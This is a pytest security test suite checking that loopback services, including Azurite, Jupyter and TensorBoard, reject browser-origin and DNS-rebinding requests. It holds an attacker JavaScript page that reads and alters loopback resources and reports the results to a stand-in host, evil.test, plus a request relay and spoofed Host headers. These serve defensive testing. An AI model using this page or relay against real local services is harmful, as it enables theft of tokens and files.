"""Pages of the web in a browser of this machine, against every port that we open on loopback.

A new port is one more function in `PORTS`.
"""

from __future__ import annotations

import base64
import json
import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Callable, Generator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from queue import Queue
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

import pytest
from azure.storage.blob import (
    BlobServiceClient,
    ContainerSasPermissions,
    CorsRule,
    PublicAccess,
    generate_container_sas,
)
from azure.storage.fileshare import ShareSasPermissions, ShareServiceClient, generate_share_sas

from batch_emulator.gateway.proxy import Gateway
from batch_emulator.gateway.services import LocalServices
from batch_emulator.gateway.sign_in import IDENTITY_PATH, NamedAccounts
from runner.core.home import HomePaths
from runner.features.export.prometheus import Gauge, MetricsSource, open_server
from runner.flows.local.state import ACCOUNT, LocalState, ensure_keys, load_state
from tests import plain_http
from tests.e2e.conftest import Cli, until
from tests.e2e.extras import ensure_extras
from tests.loopback import listening, read_body

CHROMIUM = shutil.which("chromium") or ""
needs_browser = pytest.mark.skipif(not CHROMIUM, reason="no chromium on PATH")
_EVIL = "evil.test"
_SECRET = "the secret"
_PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


@dataclass(frozen=True)
class Port:
    """What a page tries: paths of things to read and to change, with everything it could know."""

    base: str
    read: str
    marker: str  # in the content of `read`
    image: str = ""
    script: str = ""  # sets `leaked` to the marker
    write: str = "/"
    headers: dict[str, str] = field(default_factory=dict)
    is_unchanged: Callable[[], bool] = lambda: True
    attacks: tuple[bool, ...] = (False, True)  # without and with DNS rebinding

    @property
    def number(self) -> int:
        return urlsplit(self.base).port or 0


def _services(cli: Cli) -> tuple[LocalState, dict[str, str]]:
    cli.ok("local", "up")
    paths = HomePaths(cli.home)
    state = load_state(paths)
    assert state is not None
    return state, ensure_keys(paths)


def _until() -> datetime:
    return datetime.now(UTC) + timedelta(hours=1)


@contextmanager
def _blobs(cli: Cli) -> Generator[Port]:
    """Open Azurite at its weakest: a public container, a leaked SAS, and CORS for every origin."""
    state, keys = _services(cli)
    credential = {"account_name": ACCOUNT, "account_key": keys["storage"]}
    service = BlobServiceClient(state.blob_endpoint, credential)
    name = f"pages-{uuid4().hex}"
    container = service.create_container(name, public_access=PublicAccess.CONTAINER)
    container.upload_blob("secret", _SECRET)
    container.upload_blob("pixel", _PIXEL)
    container.upload_blob("script", f"window.leaked = '{_SECRET}';")
    every = CorsRule(["*"], ["GET", "PUT", "POST", "DELETE"], allowed_headers=["*"])
    service.set_service_properties(cors=[every])
    rights = ContainerSasPermissions(read=True, write=True, create=True, delete=True, list=True)
    sas = generate_container_sas(ACCOUNT, name, keys["storage"], permission=rights, expiry=_until())
    top = f"/{ACCOUNT}/{name}"

    def is_unchanged() -> bool:
        kept = sorted(container.list_blob_names()) == ["pixel", "script", "secret"]
        return kept and container.download_blob("secret").readall() == _SECRET.encode()

    yield Port(
        f"http://127.0.0.1:{state.blob_port}",
        f"{top}/secret?{sas}",
        _SECRET,
        image=f"{top}/pixel",
        script=f"{top}/script",
        write=f"{top}/secret?{sas}",
        headers={"x-ms-blob-type": "BlockBlob"},
        is_unchanged=is_unchanged,
    )
    service.set_service_properties(cors=[])
    container.delete_container()


@contextmanager
def _files(cli: Cli) -> Generator[Port]:
    """Open Azure Files with a leaked SAS."""
    state, keys = _services(cli)
    service = ShareServiceClient(state.file_endpoint, keys["storage"])
    share = service.create_share(f"pages-{uuid4().hex}")
    share.get_directory_client("").upload_file("secret", _SECRET.encode())
    rights = ShareSasPermissions(read=True, write=True, create=True, delete=True, list=True)
    sas = generate_share_sas(
        ACCOUNT, share.share_name, keys["storage"], permission=rights, expiry=_until()
    )
    path = f"/{ACCOUNT}/{share.share_name}/secret?{sas}"
    file = share.get_file_client("secret")
    yield Port(
        f"http://127.0.0.1:{state.files_port}",
        path,
        _SECRET,
        write=path,
        headers={"x-ms-type": "file", "x-ms-content-length": "7"},
        is_unchanged=lambda: file.download_file().readall() == _SECRET.encode(),
    )
    share.delete_share()


@contextmanager
def _batch(cli: Cli) -> Generator[Port]:
    """Open the Batch emulator with a leaked key, which its own API takes as a token."""
    state, keys = _services(cli)
    url = f"{state.batch_endpoint}/_emulator/health"
    nodes = f"{state.batch_endpoint}/_emulator/pools/local/nodes"
    headers = {"authorization": f"Bearer {keys['batch']}"}

    def node_ids() -> list[str]:
        found = plain_http.get(nodes, headers=headers).json()
        return [node["nodeId"] for node in found.get("value", [])]

    before = node_ids()
    assert before
    yield Port(
        state.batch_endpoint,
        urlsplit(url).path,
        "isolation",
        write="/_emulator/reset",
        headers=headers,
        is_unchanged=lambda: node_ids() == before,
    )


@contextmanager
def _gateway(_cli: Cli) -> Generator[Port]:
    """Open a gateway with a leaked header of its managed identity."""
    account = NamedAccounts("mine", "a2V5", "a2V5")
    gateway = Gateway(LocalServices(account, *3 * ("http://127.0.0.1:1",)))
    gateway.start()
    path = f"{IDENTITY_PATH}?resource=https://storage.azure.com"
    headers = {"X-IDENTITY-HEADER": gateway.tokens.identity_header}
    yield Port(gateway.url, path, "access_token", write=path, headers=headers)
    gateway.close()


@contextmanager
def _monitor(_cli: Cli) -> Generator[Port]:
    """Open `runner monitor`, which needs no key."""
    source = MetricsSource(lambda: [Gauge("runner_runs", "Runs.", [({}, 1.0)])], 60.0)
    with open_server("127.0.0.1", 0, source) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        yield Port(f"http://127.0.0.1:{server.server_port}", "/metrics", "runner_up")
        server.shutdown()


PORTS = {
    "azurite": _blobs,
    "files": _files,
    "batch": _batch,
    "gateway": _gateway,
    "monitor": _monitor,
}


@contextmanager
def _jupyter(cli: Cli) -> Generator[Port]:
    """Open JupyterLab of a node with its leaked token, which is refused after DNS rebinding only.

    Jupyter lets the holder of its token use it from any origin.
    """
    (cli.cwd / "notebooks").mkdir()
    (cli.cwd / "notebooks" / "secret.txt").write_text(_SECRET)
    made = cli.json("dev", "notebooks", "--jupyter", "--for", "5m")
    base, _, token = made["jupyter"].partition("/lab?token=")
    path = f"/api/contents/secret.txt?token={token}"

    def is_unchanged() -> bool:
        names = [
            each["name"]
            for each in plain_http.get(f"{base}/api/contents?token={token}").json()["content"]
        ]
        return "secret.txt" in names and not [name for name in names if name.startswith("untitled")]

    yield Port(base, path, _SECRET, write=path, is_unchanged=is_unchanged, attacks=(True,))
    cli.ok("cancel", made["run_id"])


@contextmanager
def _tensorboard(cli: Cli) -> Generator[Port]:
    """Open TensorBoard, which has no password, and answers requests of its own page."""
    folder = cli.cwd / "measured"
    folder.mkdir()
    (folder / "train.py").write_text("print('auc: 0.5')")
    run_id = cli.json("train", folder, "--no-download")["run_id"]
    program = str(ensure_extras().bin / "runner")
    process = subprocess.Popen(
        [program, "tensorboard", run_id, "--port", "0"],
        env=cli.env,
        cwd=cli.cwd,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout is not None
        base = process.stdout.readline().strip().rstrip("/")
        until(lambda: run_id in plain_http.get(f"{base}/data/runs").text, timeout_s=60)
        for dest, status in (("document", 200), ("iframe", 403), ("empty", 403)):
            headers = {"sec-fetch-site": "cross-site", "sec-fetch-dest": dest}
            assert plain_http.get(base, headers=headers).status_code == status
        own = {"origin": base, "sec-fetch-site": "same-origin"}
        assert plain_http.get(f"{base}/data/runs", headers=own).status_code == 200
        yield Port(base, "/data/runs", run_id, write="/data/runs")
    finally:
        process.send_signal(signal.SIGINT)
        process.wait(60)


BROWSED = {**PORTS, "jupyter": _jupyter, "tensorboard": _tensorboard}


@pytest.fixture(params=list(PORTS))
def port(request: pytest.FixtureRequest, cli: Cli) -> Generator[Port]:
    with PORTS[request.param](cli) as opened:
        yield opened


def _ask(port: Port, headers: dict[str, str]) -> int:
    answer = plain_http.get(f"{port.base}{port.read}", headers={**port.headers, **headers})
    assert (port.marker in answer.text) == (answer.status_code == 200)
    return answer.status_code


@pytest.mark.attack
@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "null"},
        {"origin": "http://127.0.0.1:1"},
        {"host": _EVIL},
        {"host": f"127.0.0.1.{_EVIL}:80"},
        {"host": f"localhost.{_EVIL}"},
        {"host": f"127.0.0.1:80@{_EVIL}"},
        {"host": "["},
        {"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors"},
        {"sec-fetch-site": "same-site", "sec-fetch-dest": "image"},
        {"sec-fetch-site": "same-origin"},
    ],
    ids=str,
)
def test_requests_with_headers_of_web_pages_are_refused(
    port: Port, headers: dict[str, str]
) -> None:
    assert _ask(port, headers) in (400, 403)


@pytest.mark.parametrize(
    "headers",
    [
        {"host": "localhost"},
        {"host": "LOCALHOST:99"},
        {"host": "127.0.0.9"},
        {"host": "[::1]:80"},
        {"sec-fetch-site": "none", "sec-fetch-mode": "navigate"},  # a typed address
    ],
    ids=str,
)
def test_requests_of_programs_and_typed_addresses_are_answered(
    port: Port, headers: dict[str, str]
) -> None:
    assert _ask(port, headers) == 200


def test_browser_plays_a_video_at_a_typed_address(cli: Cli) -> None:
    headers = {"sec-fetch-site": "same-origin", "sec-fetch-dest": "video", "range": "bytes=0-"}
    with _blobs(cli) as port:
        assert plain_http.get(f"{port.base}{port.read}", headers=headers).text == _SECRET


_PAGE = """<!doctype html><meta charset="utf-8"><iframe name="sink"></iframe><script>
const {base, read, image, script, write, headers} = ATTACK;
const at = (path) => path && base + path;
const text = async (url, options) => {
  try { return await (await fetch(url, options)).text(); } catch (err) { return `failed: ${err}`; }
};
const loaded = (kind, url) => new Promise((resolve) => {
  const element = document.createElement(kind);
  element.onload = () => resolve(`loaded ${element.naturalWidth ?? window.leaked}`);
  element.onerror = () => resolve("failed");
  element.src = url;
  document.body.append(element);
});
const posted = (url) => new Promise((resolve) => {
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: url, target: "sink", enctype: "text/plain"});
  document.body.append(form);
  document.querySelector("iframe").onload = () => resolve("sent");
  setTimeout(() => resolve("sent"), 2000);
  form.submit();
});
(async () => {
  const got = {};
  got.simple = await text(at(read));
  got.withHeaders = await text(at(read), {headers});
  got.opaque = await text(at(read), {mode: "no-cors"});
  got.image = image && await loaded("img", at(image));
  got.script = script && await loaded("script", at(script));
  got.form = await posted(at(write));
  got.simplePost = await text(at(write), {method: "POST", mode: "no-cors", body: "changed"});
  got.opaquePut = await text(at(write), {method: "PUT", mode: "no-cors", body: "changed"});
  got.put = await text(at(write), {method: "PUT", headers, body: "changed"});
  got.post = await text(at(write), {method: "POST", headers, body: ""});
  got.remove = await text(at(write), {method: "DELETE", headers});
  await fetch("/report", {method: "POST", body: JSON.stringify(got)});
})();
</script>"""


class _Attacker(BaseHTTPRequestHandler):
    """The web server of the page. With `rebound`, it passes all else to a port, as it came."""

    page: bytes
    reports: Queue[dict[str, str]]
    rebound: int | None

    def do_GET(self) -> None:
        if self.path == "/page":
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(self.page)))
            self.end_headers()
            self.wfile.write(self.page)
        elif self.path == "/report":
            self.reports.put(json.loads(read_body(self)))
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif self.rebound is not None:
            self._relay(self.rebound)
        else:
            self.send_error(404)

    do_POST = do_PUT = do_DELETE = do_OPTIONS = do_GET  # noqa: N815 - http.server names them

    def _relay(self, port: int) -> None:
        """Send the bytes of the browser to the port, and its answer back."""
        self.close_connection = True
        lines = [self.requestline, *(f"{n}: {v}" for n, v in self.headers.items())]
        lines = [line for line in lines if not line.lower().startswith("connection:")]
        head = "\r\n".join([*lines, "Connection: close", "", ""])
        with socket.create_connection(("127.0.0.1", port)) as service:
            service.sendall(head.encode("latin-1") + read_body(self))
            while part := service.recv(65536):
                self.wfile.write(part)


def _browse(url: str, resolver_rules: str, folder: Path, reports: Queue[dict[str, str]]) -> Any:
    """Open a page in Chromium, and return what it reports."""
    options = [
        *("--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--no-proxy-server"),
        *(f"--user-data-dir={folder}", f"--host-resolver-rules={resolver_rules}"),
    ]
    with (folder / "log").open("wb") as log:
        browser = subprocess.Popen([CHROMIUM, *options, url], stdout=log, stderr=log)
        try:
            return reports.get(timeout=120)
        finally:
            browser.kill()
            browser.wait()


def _attack(port: Port, tmp_path: Path, *, rebinding: bool) -> dict[str, str]:
    reports: Queue[dict[str, str]] = Queue()
    attack = {
        "base": "" if rebinding else port.base,
        **{name: getattr(port, name) for name in ("read", "image", "script", "write", "headers")},
    }
    page = _PAGE.replace("ATTACK", json.dumps(attack))
    rebound = port.number if rebinding else None
    content = page.encode()
    with listening(_Attacker, page=content, reports=reports, rebound=rebound) as url:
        own = urlsplit(url).port
        # After rebinding, the origin of the page is its name at the number of the port.
        number = port.number if rebinding else own
        rules = f"MAP {_EVIL}:{number} 127.0.0.1:{own}"
        return _browse(f"http://{_EVIL}:{number}/page", rules, tmp_path, reports)


@needs_browser
@pytest.mark.attack
@pytest.mark.parametrize("opened", BROWSED)
def test_page_in_a_browser_reads_and_changes_nothing(opened: str, cli: Cli, tmp_path: Path) -> None:
    with BROWSED[opened](cli) as port:
        for rebinding in port.attacks:
            folder = tmp_path / str(rebinding)
            folder.mkdir()
            found = _attack(port, folder, rebinding=rebinding)
            assert [name for name, text in found.items() if port.marker in text] == []
            assert not found["image"].startswith("loaded"), "the page saw the size of an image"
            assert port.is_unchanged()
            assert _ask(port, {}) == 200
